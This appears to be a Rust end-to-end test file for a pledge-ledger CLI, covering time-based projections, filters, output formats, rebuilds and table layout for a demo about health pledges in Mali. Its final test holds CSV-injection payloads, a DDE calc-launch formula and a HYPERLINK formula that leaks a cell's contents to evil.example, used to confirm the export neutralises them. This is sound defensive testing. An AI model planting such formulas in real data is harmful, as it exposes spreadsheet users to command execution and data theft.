//! End-to-end: the projections of docs/guide.md §3 through the binary — the three points in time,
//! filters, formats, rebuild, and the demo's story; tables are snapshot-tested.

use crate::common::{demo, json_lines, Env};
use serde_json::Value;

#[test]
fn the_demo_shows_kidal_as_the_one_gap_and_verifies() {
    let env = Env::new();
    let out = env.cmd().arg("demo").env_remove("PLEDGER_LEDGER").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("Gaps: ML-8 Kidal."), "{text}");
    assert!(text.contains("Who kept their word"));
    let env = demo();
    let cov = json_lines(&env.ok(&["coverage", "--format", "json"]));
    let gaps: Vec<&str> = cov.iter().filter(|a| a["status"] == "gap").map(|a| a["code"].as_str().unwrap()).collect();
    assert_eq!(gaps, ["ML-8"]);
    let verified = env.ok(&["verify"]);
    assert!(verified.contains("verified 63 entries"), "{verified}");
    // The story has a disputed delivery, a partial withdrawal, late deliveries, an amendment up.
    let status = json_lines(&env.ok(&["status", "--format", "json", "--as-of", "2016-06-30"]));
    let state = |p: &str| status.iter().find(|s| s["id"] == p).unwrap()["state"].as_str().unwrap().to_owned();
    assert_eq!(state("P-000004"), "disputed");
    let p8 = status.iter().find(|s| s["id"] == "P-000008").unwrap();
    assert_eq!((p8["pledged"].as_u64(), p8["withdrawn"].as_u64()), (Some(24_000_000), Some(10_000_000)));
    let p3 = status.iter().find(|s| s["id"] == "P-000003").unwrap();
    assert_eq!(p3["pledged"], 75_000_000, "PSI's DHIS 2 pledge was amended upward");
    assert_eq!(status.iter().filter(|s| s["days_late"].as_i64().unwrap_or(0) > 0).count(), 4);
}

#[test]
fn at_n_before_an_attestation_shows_the_delivery_claimed_not_confirmed() {
    let env = Env::founded();
    env.pledge_xof("psi", "1000000");
    env.ok(&["--key", "psi.key", "fulfill", "P-000001", "--amount", "1000000", "--date", "2014-06-01"]);
    let before = env.ok(&["log", "--format", "json"]).lines().count();
    env.ok(&["--key", "dns.key", "attest", "F-000001", "--confirm", "--date", "2014-06-10"]);
    let at = |n: usize| json_lines(&env.ok(&["status", "--format", "json", "--at", &n.to_string()]))[0].clone();
    let then = at(before);
    assert_eq!(
        (then["state"].as_str(), then["claimed"].as_u64(), then["confirmed"].as_u64()),
        (Some("claimed"), Some(1_000_000), Some(0))
    );
    let now = at(before + 1);
    assert_eq!(
        (now["state"].as_str(), now["confirmed"].as_u64(), now["met"].as_str()),
        (Some("fulfilled"), Some(1_000_000), Some("2014-06-01"))
    );
    let head = json_lines(&env.ok(&["status", "--format", "json"]))[0].clone();
    assert_eq!(head, now);
    let out = env.run(&["status", "--at", "999"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--at 999: the ledger has only"));
}

#[test]
fn as_of_before_a_delivery_shows_the_area_promised_not_covered() {
    let env = Env::founded();
    env.pledge_xof("psi", "1000000");
    env.ok(&["--key", "psi.key", "fulfill", "P-000001", "--amount", "1000000", "--date", "2014-06-01"]);
    env.ok(&["--key", "dns.key", "attest", "F-000001", "--confirm", "--date", "2014-06-10"]);
    let area = |as_of: &str| {
        json_lines(&env.ok(&["coverage", "--format", "json", "--as-of", as_of]))
            .into_iter()
            .find(|a| a["code"] == "ML-3")
            .unwrap()["status"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(area("2014-02-28"), "gap", "before the pledge");
    assert_eq!(area("2014-05-31"), "promised", "before the delivery");
    assert_eq!(area("2014-06-05"), "promised", "delivered, not yet confirmed");
    assert_eq!(area("2014-06-10"), "covered");
    // Overdue is judged on the as-of date: due 2015-06-30.
    env.pledge_xof("measure", "5");
    let st = |as_of: &str| {
        json_lines(&env.ok(&["status", "--org", "measure", "--format", "json", "--as-of", as_of]))[0]["state"].clone()
    };
    assert_eq!(st("2015-06-30"), "open");
    assert_eq!(st("2015-07-01"), "overdue");
    let out = env.run(&["status", "--as-of", "2015-13-01"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn filters_formats_and_rebuild() {
    let env = demo();
    // --org: the member's pledges, made or received.
    let psi = json_lines(&env.ok(&["status", "--org", "psi", "--format", "json"]));
    assert_eq!(psi.len(), 3);
    let cps = json_lines(&env.ok(&["status", "--org", "cps", "--format", "json"]));
    assert_eq!(cps.len(), 1, "cps received one pledge");
    let card = json_lines(&env.ok(&["scorecard", "--org", "cps", "--format", "json"]));
    assert_eq!((card.len(), card[0]["pledges"].as_u64()), (1, Some(0)));
    // --area includes the areas inside it.
    let sikasso = json_lines(&env.ok(&["status", "--area", "ML-3", "--format", "json"]));
    let ids: Vec<&str> = sikasso.iter().map(|s| s["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["P-000002", "P-000005", "P-000010"], "Koutiala and Kadiolo are in Sikasso");
    let cov = json_lines(&env.ok(&["coverage", "--area", "ML-3", "--format", "json"]));
    assert_eq!(cov.iter().map(|a| a["code"].as_str().unwrap()).collect::<Vec<_>>(), ["ML-3", "ML-3-KDL", "ML-3-KTL"]);
    for (args, needle) in [(["status", "--org", "ghost"]), (["status", "--area", "ML-99"])]
        .iter()
        .zip(["unknown member ghost", "unknown area ML-99"])
    {
        let out = env.run(args);
        assert_eq!(out.status.code(), Some(1));
        assert!(String::from_utf8_lossy(&out.stderr).contains(needle));
    }
    // CSV opens in a spreadsheet: a header row, one record per row, quoted where needed.
    for cmd in ["status", "scorecard", "coverage", "timeline"] {
        let csv_text = env.ok(&[cmd, "--format", "csv", "--as-of", "2016-06-30"]);
        let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
        let width = rdr.headers().unwrap().len();
        let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
        assert!(!rows.is_empty(), "{cmd}");
        assert!(rows.iter().all(|r| r.len() == width), "{cmd}");
    }
    let csv_text = env.ok(&["status", "--format", "csv", "--as-of", "2016-06-30"]);
    assert!(csv_text.starts_with("pledge,pledger,beneficiary,category,areas,unit,pledged,"));
    assert!(csv_text.contains(",USD,450000.00,"), "money as a decimal in major units");
    assert!(csv_text.contains("\"ML-3,ML-1,ML-BKO\""), "quoted lists");
    // The scorecard: a row per member and unit, shares as exact fractions, names in UTF-8.
    let card = env.ok(&["scorecard", "--format", "csv", "--as-of", "2016-06-30"]);
    let mut rdr = csv::Reader::from_reader(card.as_bytes());
    let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header[..5], ["member", "name", "kind", "pledges", "follow_through"]);
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let assist: Vec<&csv::StringRecord> = rows.iter().filter(|r| &r[0] == "assist").collect();
    assert_eq!(assist.iter().map(|r| &r[12]).collect::<Vec<_>>(), ["coaching visits", "training sessions"]);
    assert_eq!(&assist[0][4], "1.000000");
    assert!(rows.iter().any(|r| &r[1] == "Direction Nationale de la Santé"), "UTF-8 kept");
    let cov = env.ok(&["coverage", "--format", "csv"]);
    assert!(cov.starts_with("area,name,level,parent,status,pledging,delivered,category,category_status\n"));
    // A row per area and category: Ségou's software, covered; Kidal, reached by none, one row.
    assert!(cov.contains("\nML-4,Ségou,region,ML,covered,measure,measure,software,covered\n"), "{cov}");
    assert!(cov.contains("\nML-8,Kidal,region,ML,gap,,,,\n"), "{cov}");
    // Rebuild recomputes the same projections, and the ledger still verifies.
    let before: Vec<String> =
        ["status", "scorecard", "coverage", "timeline"].iter().map(|c| env.ok(&[c, "--format", "json"])).collect();
    assert_eq!(env.ok(&["rebuild"]), "63");
    let after: Vec<String> =
        ["status", "scorecard", "coverage", "timeline"].iter().map(|c| env.ok(&[c, "--format", "json"])).collect();
    assert_eq!(before, after);
    env.ok(&["verify"]);
}

#[test]
fn show_tells_a_pledges_history() {
    let env = demo();
    let v: Value = serde_json::from_str(&env.ok(&["show", "P-000008", "--format", "json"])).unwrap();
    let kinds: Vec<&str> = v["history"].as_array().unwrap().iter().map(|h| h["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["pledge", "amendment", "withdrawal", "fulfillment", "attestation"]);
    assert_eq!(v["history"][4]["signer"], "dns");
    assert_eq!(v["status"]["state"], "fulfilled");
    assert_eq!(v["status"]["areas"], serde_json::json!(["ML-7"]));
    let table = env.ok(&["show", "P-000004", "--format", "table"]);
    assert!(table.contains("disputed F-000008"), "{table}");
}

#[test]
fn snapshot_tables_of_the_demo() {
    let env = demo();
    // What differs from one demo to the next — its keys, event ids and recording times — is
    // written over with a placeholder of the same width, so that the layout is what is compared.
    let mut varying: Vec<String> = Vec::new();
    for m in json_lines(&env.ok(&["members", "--format", "json"])) {
        varying.extend(m["keys"].as_array().unwrap().iter().map(|k| k["id"].as_str().unwrap().to_owned()));
    }
    for e in json_lines(&env.ok(&["log", "--format", "json"])) {
        varying.push(e["recorded"].as_str().unwrap().to_owned());
        varying.push(e["event"]["id"].as_str().unwrap().to_owned());
    }
    let steady = |text: String| varying.iter().fold(text, |t, v| t.replace(v.as_str(), &"#".repeat(v.chars().count())));
    let tables: [&[&str]; 7] = [
        &["status", "--as-of", "2016-06-30"],
        &["scorecard", "--as-of", "2016-06-30"],
        &["coverage", "--as-of", "2016-06-30"],
        &["timeline", "--as-of", "2016-06-30"],
        &["members"],
        &["log", "--from", "40"],
        &["show", "P-000003"],
    ];
    for args in tables {
        for width in ["80", "120"] {
            let out = env.cmd().env("COLUMNS", width).args(args).output().unwrap();
            assert!(out.status.success());
            let name = format!("demo_{}_{width}", args[0]);
            insta::assert_snapshot!(name, steady(String::from_utf8(out.stdout).unwrap()));
        }
    }
}

/// At every width from 60 columns up, each table keeps to the width and splits no id, date or
/// amount: each is found whole, or its column is left out.
#[test]
fn tables_fit_every_width_and_split_no_token() {
    let env = demo();
    let status = json_lines(&env.ok(&["status", "--format", "json", "--as-of", "2016-06-30"]));
    let ids: Vec<String> = status.iter().map(|s| s["id"].as_str().unwrap().to_owned()).collect();
    let dues: Vec<String> = status.iter().map(|s| s["due"].as_str().unwrap().to_owned()).collect();
    // The pledged amounts as the table writes them (grouped, in major units).
    let pledged: Vec<String> = status
        .iter()
        .map(|s| {
            let unit = match s["currency"].as_str() {
                Some(c) => pledger_core::Unit::currency(c).unwrap(),
                None => pledger_core::Unit::count(s["unit"].as_str().unwrap()).unwrap(),
            };
            let text = unit.format(s["pledged"].as_u64().unwrap());
            text.trim_start_matches(&format!("{} ", unit.name()))
                .trim_end_matches(&format!(" {}", unit.name()))
                .to_owned()
        })
        .collect();
    let keys: Vec<String> = json_lines(&env.ok(&["members", "--format", "json"]))
        .iter()
        .flat_map(|m| {
            m["keys"].as_array().unwrap().iter().map(|k| k["id"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
        })
        .collect();
    for width in [60usize, 61, 67, 72, 80, 90, 100, 120, 140, 170, 220] {
        for cmd in ["status", "scorecard", "coverage", "timeline", "members", "log", "show P-000003"] {
            let mut args: Vec<&str> = cmd.split(' ').collect();
            if !cmd.starts_with("members") && !cmd.starts_with("log") && !cmd.starts_with("show") {
                args.extend(["--as-of", "2016-06-30"]);
            }
            let out = env.cmd().env("COLUMNS", width.to_string()).args(&args).output().unwrap();
            assert!(out.status.success(), "{cmd} at {width}");
            let text = String::from_utf8(out.stdout).unwrap();
            for line in text.lines() {
                assert!(line.chars().count() <= width, "{cmd} at {width}: {line:?} is wider");
            }
            let whole = |token: &str| text.split_whitespace().any(|w| w == token);
            if cmd == "status" {
                for (i, id) in ids.iter().enumerate() {
                    assert!(whole(id), "status at {width}: {id} split:\n{text}");
                    assert!(whole(&pledged[i]), "status at {width}: {} split:\n{text}", pledged[i]);
                    if text.lines().next().is_some_and(|h| h.split_whitespace().any(|w| w == "due")) {
                        assert!(whole(&dues[i]), "status at {width}: {} split:\n{text}", dues[i]);
                    }
                }
            }
            if cmd == "members" && text.lines().next().is_some_and(|h| h.split_whitespace().any(|w| w == "keys")) {
                for k in &keys {
                    assert!(whole(k), "members at {width}: key {k} split:\n{text}");
                }
            }
        }
    }
}

#[test]
fn totals_beyond_64_bits_are_exact_not_saturated() {
    use pledger_core::event::{PledgeBody, Title};
    use pledger_core::{AreaCode, Body, CategoryCode, Date, Measure, MemberId, Unit};
    let env = crate::common::Env::founded();
    let signer = |member: &str| pledger_log::sign::Signer {
        origin: crate::common::ORIGIN.into(),
        member: MemberId::parse(member).unwrap(),
        key: pledger_log::keys::read_private(&env.path(&format!("{member}.key"))).unwrap(),
    };
    let pledge = |value: u64| {
        Body::Pledge(PledgeBody {
            to: MemberId::parse("dns").unwrap(),
            category: CategoryCode::parse("funding").unwrap(),
            areas: vec![AreaCode::parse("ML").unwrap()],
            amount: Measure::new(value, Unit::currency("XOF").unwrap()).unwrap(),
            due: Date::parse("2015-06-30").unwrap(),
            title: Title::parse("Budget support").unwrap(),
            tranches: Vec::new(),
        })
    };
    let made = Date::parse("2014-03-01").unwrap();
    let now = chrono::Utc::now();
    let (psi, usaid) = (signer("psi"), signer("usaid"));
    let max = pledger_core::measure::MAX_VALUE;
    let mut lines: Vec<String> = (0..2100).map(|_| psi.sign(now, made, pledge(max)).to_json()).collect();
    lines.push(usaid.sign(now, made, pledge(5)).to_json());
    env.write("big.jsonl", &(lines.join("\n") + "\n"));
    env.ok(&["-q", "submit", "big.jsonl"]);
    // 2,100 × (2^53 − 1) = 18,915,118,434,956,081,100, beyond 2^64 − 1.
    let card = env.ok(&["scorecard", "--format", "json"]);
    assert!(card.contains(r#""pledged":18915118434956081100,"#), "{card}");
    let months = env.ok(&["timeline", "--format", "json"]);
    assert!(months.contains(r#""pledged":18915118434956081105,"#), "usaid's 5 counted: {months}");
    let table = env.ok(&["status", "--format", "table"]);
    assert!(table.contains("\nXOF  ") && table.contains(" 18,915,118,434,956,081,105 "), "{table}");
    let csv = env.ok(&["scorecard", "--format", "csv"]);
    assert!(csv.contains(",18915118434956081100,"), "{csv}");
    // Replayed at a size and computed from the pledges, the same figures.
    let size = env.ok(&["log", "--format", "json"]).lines().count().to_string();
    let at = env.ok(&["scorecard", "--format", "json", "--at", &size]);
    assert_eq!(at, card);
    assert!(env.ok(&["verify"]).starts_with("verified"));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let env = crate::common::Env::founded();
    let area = "=cmd|' /C calc'!A0";
    env.ok(&["--key", "dns.key", "area", "add", "ML-9", "--name", area, "--level", "region", "--parent", "ML"]);
    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let id = env.ok(&crate::common::pledge_with("psi.key", &[("--title", title), ("--area", "ML-9")]));
    let csv_of = |args: &[&str]| -> Vec<String> {
        let text = env.ok(args);
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    };
    let status = csv_of(&["status", "--format", "csv"]);
    assert!(status.contains(&format!("'{title}")), "{status:?}");
    assert!(!status.iter().any(|c| c.starts_with('=')), "{status:?}");
    let coverage = csv_of(&["coverage", "--format", "csv"]);
    assert!(coverage.contains(&format!("'{area}")), "{coverage:?}");
    let log = csv_of(&["log", "--format", "csv"]);
    assert!(!log.iter().any(|c| c.starts_with('=')), "{log:?}");
    // JSON and the table say what was signed, unchanged.
    let json = env.ok(&["show", &id, "--format", "json"]);
    assert!(json.contains(r#""title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")""#), "{json}");
}
